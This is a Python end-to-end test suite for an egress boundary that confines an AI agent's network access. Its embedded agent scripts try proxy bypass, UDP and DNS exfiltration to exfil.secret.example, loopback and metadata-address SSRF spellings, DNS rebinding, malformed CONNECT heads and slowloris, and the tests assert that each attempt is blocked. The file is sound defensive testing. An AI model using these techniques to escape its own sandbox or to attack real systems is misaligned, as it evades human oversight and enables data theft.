"""Attacks on the egress path from the agent's side.

Every test runs real attack code as the agent (uid 1000, in its own network namespace) in dev mode and
asserts two things: the attack failed where the agent can see it, and the daemons' events say so. Where the
attack is "make control dial something it must not", a trap listens there and must stay empty.
Nothing leaves the machine: the only upstream is the test host, the only resolver the test's.
"""

from __future__ import annotations

from typing import Any

from tests.e2e.attack_world import (
    AGENT_PYTHON,
    ECHO_PORT,
    Agent,
    AttackWorld,
    attack_world,
)

__all__ = ["attack_world"]  # the module-scoped fixture

PYTHON = "/usr/bin/python3.11"  # the identity of the agent's interpreter (/usr/bin/python3 is a symlink)


def _decision(agent: Agent, destination: str, capture: str = "transparent") -> dict[str, Any]:
    found = agent.egress(destination, capture)
    assert len(found) == 1, f"expected one egress event for {destination}, got {found}\n{agent.explain()}"
    return found[0]


def test_direct_dials_are_captured_and_decided(attack_world: AttackWorld) -> None:
    """An agent ignoring the proxy env and dialling addresses: every TCP connection lands on a capture
    listener and is decided; the port of the proxy on a routable address has no listener at all."""
    w = attack_world
    before = len(w.accepts(ECHO_PORT))
    agent = w.run_agent("""
for name, host, port in [("ip-not-allowed", HOST, CONFIG["echo"]), ("ip-allowed", HOST, CONFIG["p1"]),
                         ("loopback-capture-port", "127.0.0.1", 8000), ("loopback-trap", "127.0.0.1", CONFIG["p1"]),
                         ("proxy-port-routable", HOST, 3128)]:
    if name != "ip-allowed":
        report(name, **dial_and_wait_end(host, port))
        continue
    sock = dial(host, port)
    report(name, **({"connect": sock} if isinstance(sock, str) else {"connect": "ok", **echo_check(sock)}))
for name, authority in [("connect-proxy-itself", "127.0.0.1:3128"),
                        ("connect-loopback-trap", f"127.0.0.1:{CONFIG['p1']}")]:
    sock, answer = tunnel(authority)
    report(name, **(answer or {"status": 200}))
    if sock:
        sock.close()
report("forward-proxy-itself", **proxy_raw(get_head("127.0.0.1:3128")))
""")
    p = agent.probes
    assert agent.result.returncode == 0, agent.explain()
    # captured, decided as the IP literal it is, denied, reset; the host never saw it
    assert p["ip-not-allowed"] == {"connect": "ok", "end": "reset", "data": ""}, agent.explain()
    denied = _decision(agent, f"{w.host.address}:{ECHO_PORT}")
    assert (denied["decision"], denied["reason"], denied["capture"]) == ("deny", "no-matching-endpoint", "transparent")
    assert denied["binary"] == PYTHON
    assert len(w.accepts(ECHO_PORT)) == before
    # the same path allows what the policy allows: proof that the denial above was a decision
    assert p["ip-allowed"]["end"] == "eof" and p["ip-allowed"]["data"] == "ping", agent.explain()
    allowed = _decision(agent, f"{w.host.address}:{w.p1}")
    assert (allowed["decision"], allowed["rule"], allowed["resolved"]) == ("allow", "hostless", w.host.address)
    # loopback of the agent's namespace is captured too (0.0.0.0 listeners) and decided
    assert p["loopback-capture-port"] == {"connect": "ok", "end": "reset", "data": ""}, agent.explain()
    assert _decision(agent, "127.0.0.1:8000")["decision"] == "deny"
    assert p["loopback-trap"] == {"connect": "ok", "end": "reset", "data": ""}, agent.explain()
    trap_event = _decision(agent, f"127.0.0.1:{w.p1}")
    assert (trap_event["decision"], trap_event["reason"]) == ("deny", "always-blocked"), trap_event
    assert p["proxy-port-routable"] == {"connect": "refused"}, agent.explain()
    # the proxy listener asked to reach itself or loopback
    assert p["connect-proxy-itself"]["status"] == 403, agent.explain()
    assert _decision(agent, "127.0.0.1:3128", "connect")["reason"] == "no-matching-endpoint"
    assert _decision(agent, "127.0.0.1:3128", "http-forward")["reason"] == "no-matching-endpoint"
    assert p["connect-loopback-trap"]["status"] == 403, agent.explain()
    assert p["connect-loopback-trap"]["body"]["reason"] == "always-blocked"
    assert _decision(agent, f"127.0.0.1:{w.p1}", "connect")["reason"] == "always-blocked"
    assert p["forward-proxy-itself"]["status"] == 403, agent.explain()
    assert w.trap_any_host.reached() == [] and w.trap_named.reached() == []


def test_the_boundary_link_port_is_out_of_reach(attack_world: AttackWorld) -> None:
    """The boundary listens for control on 127.0.0.1:<port> of the root namespace. From the agent's namespace
    that port on loopback reaches nothing, on the host's address nothing either (no capture listener there:
    the kernel refuses), and through the proxy it is a denied destination."""
    w = attack_world
    script = w.script("""
deadline = time.time() + 30
path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "boundary-port")
while not os.path.exists(path) and time.time() < deadline:
    time.sleep(0.05)
port = int(open(path).read())
for name, host in [("loopback", "127.0.0.1"), ("host-address", HOST)]:
    report(name, **dial_and_wait_end(host, port))
for name, authority in [("connect-loopback", f"127.0.0.1:{port}"), ("connect-name", f"api.test:{port}")]:
    sock, answer = tunnel(authority)
    report(name, **(answer or {"status": 200}))
""")
    run = w.start([AGENT_PYTHON, script])
    try:
        port = run.boundary_port()
        sink = w.host.listen(port, w.host.address)  # if anything got through to the host on that port, it waits here
        sink.setblocking(False)
        (w.agent_dir / "boundary-port").write_text(str(port))
        agent = run.finish()
    finally:
        run.kill()
        (w.agent_dir / "boundary-port").unlink(missing_ok=True)
    p = agent.probes
    assert agent.result.returncode == 0, agent.explain()
    assert p["loopback"] == {"connect": "refused"}, agent.explain()
    assert p["host-address"] == {"connect": "refused"}, agent.explain()
    for name, authority in [("connect-loopback", f"127.0.0.1:{port}"), ("connect-name", f"api.test:{port}")]:
        assert p[name]["status"] == 403, agent.explain()
        assert _decision(agent, authority, "connect")["reason"] == "no-matching-endpoint"
    try:
        reached = sink.accept()
    except BlockingIOError:
        reached = None
    finally:
        sink.close()
    assert reached is None, f"the test host was reached on the boundary's port: {reached}"


def test_udp_other_than_dns_never_leaves(attack_world: AttackWorld) -> None:
    """Datagrams to the host, to its port 53 without DNS in them, to control's loopback and over IPv6: none
    arrives anywhere. DNS itself, whatever address it is sent to, is answered by the stub, by policy."""
    w = attack_world
    exfil_before = w.dns.count("exfil.secret.example")
    agent = w.run_agent("""
loose = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(20):
    try:
        loose.sendto(b"exfiltrated secret %d" % i, (HOST, CONFIG["udp"]))
    except OSError:
        pass
loose.close()
report("host-port", result=udp_probe(HOST, CONFIG["udp"], b"exfiltrated secret")[0])
report("host-53-not-dns", result=udp_probe(HOST, 53, b"GET / HTTP/1.1\\r\\n\\r\\n")[0])
report("control-loopback", result=udp_probe("127.0.0.1", CONFIG["p1"], b"hello control")[0])
report("ipv6", result=udp_probe("2001:db8::1", CONFIG["udp"], b"exfiltrated secret")[0])
for name, qname in [("dns-allowed", "api.test"), ("dns-exfil", "exfil.secret.example")]:
    result, data = udp_probe(HOST, 53, dns_query(qname), wait=5)
    report(name, result=result, rcode=data[3] & 15 if len(data) > 3 else None, answers=int.from_bytes(data[6:8], "big"))
""")
    p = agent.probes
    assert agent.result.returncode == 0, agent.explain()
    assert p["host-port"]["result"] == "refused", agent.explain()  # local to the namespace: port unreachable
    assert p["control-loopback"]["result"] == "refused", agent.explain()
    assert p["ipv6"]["result"] in ("refused", "error:ENETUNREACH", "error:EADDRNOTAVAIL"), agent.explain()
    assert p["host-53-not-dns"]["result"] in ("silent", "answered:12"), agent.explain()  # no answer, or FORMERR
    assert (p["dns-allowed"]["rcode"], p["dns-allowed"]["answers"]) == (0, 1), agent.explain()
    assert p["dns-exfil"]["rcode"] == 5, agent.explain()  # REFUSED, never forwarded
    assert w.dns.count("exfil.secret.example") == exfil_before
    assert w.udp_received() == []
    assert w.trap_any_host.reached() == [] and w.trap_named.reached() == []
    dns = [e for e in agent.events if e.get("event") == "dns"]
    assert any(e["name"] == "api.test" and e["decision"] == "answered" for e in dns), agent.explain()
    assert any(e["name"] == "exfil.secret.example" and e["decision"] == "refused" for e in dns), agent.explain()
    assert agent.egress() == [], "no TCP was attempted, so no egress decision"


def test_ipv6_literals_are_denied_and_never_dialled(attack_world: AttackWorld) -> None:
    w = attack_world
    agent = w.run_agent("""
import subprocess
code = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "http://[2001:db8::1]:80/"],
                      capture_output=True, text=True).stdout
report("curl-proxy", status=code)
done = subprocess.run(["curl", "-s", "-m", "30", "--noproxy", "*", "http://[2001:db8::1]:80/"], capture_output=True)
report("curl-direct", exit=done.returncode)
for name, authority in [("connect-loopback", "[::1]:22"), ("connect-doc", "[2001:db8::1]:443")]:
    sock, answer = tunnel(authority)
    report(name, **(answer or {"status": 200}))
for name, host, port in [("dial-doc", "2001:db8::1", 80), ("dial-loopback-22", "::1", 22)]:
    report(name, **dial_and_wait_end(host, port))
""")
    p = agent.probes
    assert agent.result.returncode == 0, agent.explain()
    assert p["curl-proxy"]["status"] == "403", agent.explain()
    assert p["curl-direct"]["exit"] not in (0, 28), agent.explain()  # refused at once: reset, not a timeout
    assert p["connect-loopback"]["status"] == 403 and p["connect-doc"]["status"] == 403, agent.explain()
    assert p["dial-doc"] == {"connect": "ok", "end": "reset", "data": ""}, agent.explain()
    assert p["dial-loopback-22"] == {"connect": "refused"}, agent.explain()  # no capture listener on 22
    decided = {(e["destination"], e["capture"]): e for e in agent.egress()}
    assert set(decided) == {
        ("[2001:db8::1]:80", "http-forward"),
        ("[2001:db8::1]:80", "transparent"),
        ("[::1]:22", "connect"),
        ("[2001:db8::1]:443", "connect"),
    }, agent.explain()
    for event in decided.values():
        assert event["decision"] == "deny" and event["reason"] == "no-matching-endpoint", event
        assert event.get("resolved") is None, f"never dialled: {event}"
    assert sum(1 for e in agent.egress() if e["capture"] == "transparent") == 2  # curl's and python's


# Every way to write "this machine" or "the metadata service" that a client library might dial. On the hostless
# endpoint (any host name matches port p1) only control's address vetting stands between them and the trap on
# 127.0.0.1:p1; on port 8000 the policy itself already refuses them.
CANONICAL_INTERNAL = ["127.0.0.1", "[::ffff:127.0.0.1]", "169.254.169.254", "localhost", "LOCALHOST", "0.0.0.0",
                      "[::]", "[::1]"]  # fmt: skip
# Non-canonical numeric spellings are refused as hosts before any address exists: 400 (docs/reference/policy.md §3.17,
# "forward non-canonical target"), named in the event as invalid-host.
NON_CANONICAL = ["2130706433", "0x7f.1", "0177.0.0.1", "127.1", "127.0.0.1."]


def test_internal_address_spellings_never_reach_loopback(attack_world: AttackWorld) -> None:
    w = attack_world
    agent = w.run_agent(f"""
for h in {CANONICAL_INTERNAL + NON_CANONICAL!r}:
    for port in (CONFIG["p1"], 8000):
        sock, answer = tunnel(f"{{h}}:{{port}}")
        report(f"connect {{h}}:{{port}}", **(answer or {{"status": 200}}))
        if sock:
            sock.close()
        raw = f"GET http://{{h}}:{{port}}/ HTTP/1.1\\r\\nHost: {{h}}:{{port}}\\r\\n\\r\\n".encode()
        report(f"forward {{h}}:{{port}}", **proxy_raw(raw))
""")
    assert agent.result.returncode == 0, agent.explain()
    assert len(agent.probes) == 4 * len(CANONICAL_INTERNAL + NON_CANONICAL), agent.explain()
    for spelling in CANONICAL_INTERNAL + NON_CANONICAL:
        for kind in ("connect", "forward"):
            trapped = agent.probes[f"{kind} {spelling}:{w.p1}"]
            expected = 400 if spelling in NON_CANONICAL else 403
            assert trapped["status"] == expected, f"{kind} {spelling}: {trapped}\n{agent.explain()}"
            assert trapped["body"]["detail"], trapped
            denied = agent.probes[f"{kind} {spelling}:8000"]
            assert (denied["status"], denied["body"]["reason"]) == (403, "no-matching-endpoint"), denied
    decisions = agent.egress()
    assert len(decisions) == 4 * len(CANONICAL_INTERNAL + NON_CANONICAL), agent.explain()
    for event in decisions:
        assert event["decision"] == "deny", event
        assert event.get("resolved") is None, event
        if event["destination"].endswith(f":{w.p1}"):
            assert event["rule"] == "hostless", event  # the policy let it through: vetting refused it
            assert event["reason"] in ("always-blocked", "invalid-host"), event
    assert w.trap_any_host.reached() == [] and w.trap_named.reached() == []


def test_a_named_host_answering_loopback_is_refused(attack_world: AttackWorld) -> None:
    """The policy names loop.test exactly (internal answers allowed for it); its answer is 127.0.0.1, which
    stays refused: loopback is always blocked."""
    w = attack_world
    queries = w.dns.count("loop.test", "A")
    agent = w.run_agent("""
sock, answer = tunnel(f"loop.test:{CONFIG['p2']}")
report("connect", **(answer or {"status": 200}))
report("forward", **proxy_raw(get_head(f"loop.test:{CONFIG['p2']}")))
""")
    p = agent.probes
    assert agent.result.returncode == 0, agent.explain()
    assert p["connect"]["status"] == 403 and p["connect"]["body"]["reason"] == "always-blocked", agent.explain()
    assert p["forward"]["status"] == 403 and p["forward"]["body"]["reason"] == "always-blocked", agent.explain()
    for capture in ("connect", "http-forward"):
        event = _decision(agent, f"loop.test:{w.p2}", capture)
        assert (event["decision"], event["rule"], event["reason"]) == ("deny", "named-internal", "always-blocked")
    assert w.dns.count("loop.test", "A") == queries + 2, "one resolution per connection"
    assert w.trap_named.reached() == []


def test_rebinding_gets_one_resolution_per_connection(attack_world: AttackWorld) -> None:
    """rebind.test answers the host first and 127.0.0.1 after: the first connection goes to the host, the
    second is refused, and each connection resolved exactly once (no window between check and dial)."""
    w = attack_world
    queries = w.dns.count("rebind.test", "A")
    agent = w.run_agent("""
for name in ("first", "second"):
    sock, answer = tunnel(f"rebind.test:{CONFIG['p2']}")
    report(name, **(answer or {"status": 200, **echo_check(sock, b"rebound?")}))
""")
    p = agent.probes
    assert agent.result.returncode == 0, agent.explain()
    assert p["first"] == {"status": 200, "end": "eof", "data": "rebound?"}, agent.explain()
    assert p["second"]["status"] == 403 and p["second"]["body"]["reason"] == "always-blocked", agent.explain()
    events = {e["decision"]: e for e in agent.egress(f"rebind.test:{w.p2}", "connect")}
    assert set(events) == {"allow", "deny"}, agent.explain()  # an allow is logged when it closes: any order
    assert events["allow"]["resolved"] == w.host.address, events
    assert events["deny"]["reason"] == "always-blocked", events
    assert w.dns.count("rebind.test", "A") == queries + 2
    assert w.trap_named.reached() == []


MALFORMED_CONNECT = {
    "no-port": "malformed.test",
    "unbracketed-ipv6": "2001:db8::1:443",
    "unbracketed-ipv6-loopback": "::1:22",
    "userinfo": "user@malformed.test:9001",
    "userinfo-password": "user:secret@malformed.test:9001",
    "port-0": "malformed.test:0",
    "port-65536": "malformed.test:65536",
    "port-leading-zero": "malformed.test:09001",
    "port-negative": "malformed.test:-1",
    "two-ports": "malformed.test:9001:9001",
    "path": "malformed.test:9001/x",
    "long-host": "m" * 300 + ".test:9001",
    "unterminated-ipv6": "[::1:22",
    "ipv6-zone": "[fe80::1%25eth0]:443",
    "percent-host": "malformed%2etest:9001",
}


def test_malformed_and_oversized_heads_are_refused_by_the_boundary(attack_world: AttackWorld) -> None:
    """Refused at the proxy listener, before control: 400 for a malformed CONNECT authority, 431 for a head
    over 8 KiB (at once, not after the head deadline). No decision, no DNS query."""
    w = attack_world
    agent = w.run_agent(f"""
for name, authority in {MALFORMED_CONNECT!r}.items():
    report(name, **proxy_raw(connect_head(authority)))
report("connect-with-body", **proxy_raw(connect_head("malformed.test:9001", b"Content-Length: 5\\r\\n") + b"hello"))
pad = b"X-Pad: " + b"p" * 9000 + b"\\r\\n"
many = b"".join(b"X-H%d: %s\\r\\n" % (i, b"v" * 40) for i in range(250))
for name, raw in [
    ("huge-forward", b"GET http://malformed.test:9001/ HTTP/1.1\\r\\nHost: malformed.test\\r\\n" + pad + b"\\r\\n"),
    ("huge-connect", b"CONNECT malformed.test:9001 HTTP/1.1\\r\\n" + pad + b"\\r\\n"),
    ("many-headers", b"GET http://malformed.test:9001/ HTTP/1.1\\r\\nHost: malformed.test\\r\\n" + many + b"\\r\\n"),
    ("endless-line", b"GET http://malformed.test:9001/" + b"a" * 9000),
]:
    started = time.monotonic()
    answer = proxy_raw(raw)
    report(name, seconds=round(time.monotonic() - started, 3), **answer)
""")
    p = agent.probes
    assert agent.result.returncode == 0, agent.explain()
    for name in [*MALFORMED_CONNECT, "connect-with-body"]:
        assert p[name]["status"] == 400, f"{name}: {p[name]}\n{agent.explain()}"
    for name in ("huge-forward", "huge-connect", "many-headers", "endless-line"):
        assert p[name]["status"] == 431, f"{name}: {p[name]}\n{agent.explain()}"
        assert p[name]["seconds"] < 5, p[name]  # the head deadline is 10 s: this was refused on size
    assert agent.egress() == [], "nothing malformed may reach control"
    assert w.dns.count("malformed.test") == 0


def test_a_never_ending_head_is_cut_at_the_deadline(attack_world: AttackWorld) -> None:
    """Slowloris: a head that trickles forever (a header line every 0.5 s), and a connection that sends
    nothing at all, are both closed by the proxy once its 10 s head deadline passes — not kept open."""
    w = attack_world
    agent = w.run_agent("""
import threading

def slow(name, first, drip):
    sock = dial(*PROXY)
    sock.settimeout(30)
    started = time.monotonic()
    stop = threading.Event()
    def trickle():
        try:
            sock.sendall(first)
            while drip and not stop.wait(0.5):
                sock.sendall(b"X-Slow: 1\\r\\n")
        except OSError:
            pass
    sender = threading.Thread(target=trickle)
    sender.start()
    data, end = read_to_end(sock)
    stop.set()
    sender.join()
    sock.close()
    report(name, seconds=round(time.monotonic() - started, 3), status=status_of(data), end=end)

threads = [threading.Thread(target=slow, args=("trickle", b"CONNECT api.test:9001 HTTP/1.1\\r\\n", True)),
           threading.Thread(target=slow, args=("silent", b"", False))]
for t in threads:
    t.start()
for t in threads:
    t.join()
""")
    p = agent.probes
    assert agent.result.returncode == 0, agent.explain()
    for name in ("trickle", "silent"):
        probe = p[name]
        assert probe["end"] in ("eof", "reset"), f"{name}: {probe}"
        assert probe["seconds"] < 10 + 3, f"{name} outlived the head deadline: {probe}"
    assert p["trickle"]["status"] in (408, None), p["trickle"]  # 408, or a reset if a trickled byte raced it
    assert agent.egress() == []


def test_half_close_from_either_side_through_the_full_path(attack_world: AttackWorld) -> None:
    """Client half-closes first: the server answers only after our EOF reached it, and we still read that
    answer. Server half-closes first: we read its EOF, then still send, and all of it arrives."""
    w = attack_world
    logged = len(w.log_lines("server-first.log"))
    agent = w.run_agent("""
import random
address = socket.getaddrinfo("api.test", CONFIG["after_eof"], socket.AF_INET, socket.SOCK_STREAM)[0][4][0]

def connect(kind, port):
    if kind == "connect":
        sock, answer = tunnel(f"api.test:{port}")
        assert sock is not None, answer
        return sock
    sock = dial(address, port)
    assert not isinstance(sock, str), sock
    return sock

for kind in ("connect", "transparent"):
    # a first byte 0x16 is TLS to control whatever follows (an inspected endpoint): random bytes must not start so
    payload = b"\\x00" + random.randbytes(299_999)
    answer = exchange(connect(kind, CONFIG["after_eof"]), payload)
    report(f"client-first {kind}", sent=f"got {len(payload)} {hashlib.sha256(payload).hexdigest()}", **answer)
    sock = connect(kind, CONFIG["server_first"])
    greeting, end = read_to_end(sock)
    payload = b"\\x00" + random.randbytes(199_999)
    after = exchange(sock, payload)
    report(f"server-first {kind}", greeting=greeting.decode(), greeting_end=end, after_end=after["end"],
           sent=f"received {len(payload)} {hashlib.sha256(payload).hexdigest()}")
""")
    p = agent.probes
    assert agent.result.returncode == 0, agent.explain()
    for kind in ("connect", "transparent"):
        first = p[f"client-first {kind}"]
        assert (first["end"], first["data"].strip()) == ("eof", first["sent"]), f"{kind}: {first}\n{agent.explain()}"
        server = p[f"server-first {kind}"]
        assert (server["greeting"], server["greeting_end"]) == ("hello from the server\n", "eof"), server
        assert server["after_end"] == "eof", server
    received = w.log_lines("server-first.log")[logged:]
    assert sorted(received) == sorted(p[f"server-first {k}"]["sent"] for k in ("connect", "transparent"))
    allowed = [e for e in agent.egress() if e["decision"] == "allow"]
    assert len(allowed) == 4, agent.explain()
    # clean ends (raw relays say a/b; the relays of a first byte neither TLS nor HTTP say agent/upstream)
    assert all(e["closed_by"] in ("a", "b", "agent", "upstream") and e.get("error") is None for e in allowed), allowed


def test_upstream_reset_mid_transfer_reaches_the_agent_as_a_reset(attack_world: AttackWorld) -> None:
    """The upstream sends a close-delimited HTTP/1.0 body, then resets. The agent must see the reset: a clean
    EOF would make the truncated body look complete. Through CONNECT, transparent capture and the
    absolute-form proxy path (python raw, and curl, whose exit status must say so)."""
    w = attack_world
    agent = w.run_agent("""
import subprocess
request = f"GET / HTTP/1.0\\r\\nHost: api.test:{CONFIG['reset']}\\r\\n\\r\\n".encode()
sock, answer = tunnel(f"api.test:{CONFIG['reset']}")
report("connect", **exchange(sock, request, half_close=False))
address = socket.getaddrinfo("api.test", CONFIG["reset"], socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
report("transparent", **exchange(dial(address, CONFIG["reset"]), request, half_close=False))
sock = dial(*PROXY)
report("forward", **exchange(sock, get_head(f"api.test:{CONFIG['reset']}", "1.0"), half_close=False))
curl = ["curl", "-s", "-o", "/dev/null", "-w", "%{size_download}", f"http://api.test:{CONFIG['reset']}/"]
done = subprocess.run(curl, capture_output=True, text=True)
report("curl-forward", exit=done.returncode, size=done.stdout)
""")
    p = agent.probes
    assert agent.result.returncode == 0, agent.explain()
    for name in ("connect", "transparent", "forward"):
        assert p[name]["end"] == "reset", f"{name} ended {p[name]['end']!r}, not reset\n{agent.explain()}"
        assert p[name]["size"] > 0, f"{name}: the reset came before any data, so not mid-transfer: {p[name]}"
    assert p["curl-forward"]["exit"] != 0, f"curl took a truncated body for complete: {p['curl-forward']}"
    allowed = agent.egress()
    assert len(allowed) == 4 and all(e["decision"] == "allow" for e in allowed), agent.explain()
    assert [e for e in agent.events if e.get("event") == "egress.error"] == [], agent.explain()  # expected, not odd
    for event in allowed:  # control's event says the upstream failed, not that it closed cleanly
        assert event["closed_by"] in ("b", "upstream-failed") and "reset" in (event.get("error") or "").lower(), event


def test_a_client_that_half_closes_at_once_is_still_identified(attack_world: AttackWorld) -> None:
    """``printf 'GET ...' | nc -N``-style clients send everything and shut down their write side at once, often
    before the boundary has looked at the socket. That is a legitimate client, not an identity failure."""
    w = attack_world
    agent = w.run_agent("""
address = socket.getaddrinfo("api.test", CONFIG["after_eof"], socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
report("transparent", **exchange(dial(address, CONFIG["after_eof"]), b"at once"))
sock = dial(*PROXY)
report("forward", **exchange(sock, get_head(f"api.test:{CONFIG['reset']}", "1.0")))
""")
    p = agent.probes
    assert p["transparent"]["data"].startswith("got 7 "), agent.explain()
    assert p["forward"]["data"].startswith(("HTTP/1.0 200", "HTTP/1.1 200")), agent.explain()  # inspection re-frames
